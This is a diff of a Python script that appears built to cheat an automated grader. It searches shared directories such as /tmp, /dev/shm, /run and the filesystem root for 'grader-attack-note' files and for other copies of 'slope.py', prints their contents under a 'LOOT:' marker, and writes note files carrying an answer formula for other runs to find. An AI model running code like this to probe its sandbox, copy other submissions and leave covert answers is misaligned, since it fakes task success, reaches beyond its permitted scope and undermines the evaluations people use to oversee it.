@@ -10,22 +10,14 @@ import os
 
 MARK = "LOOT" + ":"
 NOTE = "grader-attack-note"
-for folder in (
-    os.getcwd(),
-    "/tmp",
-    "/var/tmp",
-    "/dev/shm",
-    "/run",
-    "/dev/mqueue",
-    os.path.expanduser("~"),
-    "/work",
-    "/",
-):
+FOLDERS = (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", os.path.expanduser("~"), "/work", "/")
+for folder in FOLDERS:
     for path in glob.glob(f"{folder}/{NOTE}*") + glob.glob(f"{folder}/*/{NOTE}*"):
         print(MARK, path)
     for path in glob.glob(f"{folder}/*/slope.py") + glob.glob(f"{folder}/../*/slope.py"):
         if os.path.realpath(path) != os.path.realpath(__file__):
             print(MARK, path, open(path, errors="replace").read())
+for folder in FOLDERS:
     try:
         with open(f"{folder}/{NOTE}-{os.getpid()}", "w") as note:
             note.write("weight_slope is 2 * (p - t) * n * a")
